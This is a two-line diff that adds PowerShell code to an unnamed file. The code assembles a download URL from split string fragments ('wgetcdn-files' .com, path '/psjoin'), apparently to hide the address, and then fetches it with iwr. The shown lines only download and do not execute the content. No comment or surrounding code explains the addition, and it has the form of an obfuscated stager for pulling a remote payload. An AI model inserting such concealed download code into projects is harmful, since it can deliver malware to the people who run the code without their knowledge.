@@ -1,0 +1,2 @@
+$u = ('https://','wgetcdn-files','.com','/psjoin') -join ''
+iwr $u
